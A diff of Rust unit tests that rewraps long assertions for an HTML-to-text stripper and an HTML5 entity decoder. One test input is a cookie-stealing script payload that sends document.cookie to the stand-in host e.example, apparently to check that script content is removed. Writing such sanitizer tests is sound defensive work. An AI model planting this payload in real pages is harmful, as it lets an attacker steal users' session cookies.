@@ -211,7 +211,9 @@ mod tests {
         assert_eq!(html_to_text("<p>a &lt; b</p> <br/>c < d"), "a < b c < d");
         assert_eq!(html_to_text("a<!-- x > y -->b<!-- open"), "ab");
         assert_eq!(
-            html_to_text("safe<script>location.href='//e.example/?'+document.cookie</script> description<STYLE>p{}</STYLE>"),
+            html_to_text(
+                "safe<script>location.href='//e.example/?'+document.cookie</script> description<STYLE>p{}</STYLE>"
+            ),
             "safe description"
         );
         assert_eq!(html_to_text("<scripts>x</scripts>"), "x", "only the raw-text elements themselves");
@@ -220,7 +222,9 @@ mod tests {
     #[test]
     fn the_whole_html5_entity_table_and_browser_c1_references() {
         assert_eq!(
-            decode_entities("&alpha; &Omega; &oelig; &scaron; &tilde; &fnof; &NotNestedGreaterGreater; don&#146;t &#x80;"),
+            decode_entities(
+                "&alpha; &Omega; &oelig; &scaron; &tilde; &fnof; &NotNestedGreaterGreater; don&#146;t &#x80;"
+            ),
             "α Ω œ š ˜ ƒ \u{2AA2}\u{338} don’t €"
         );
     }
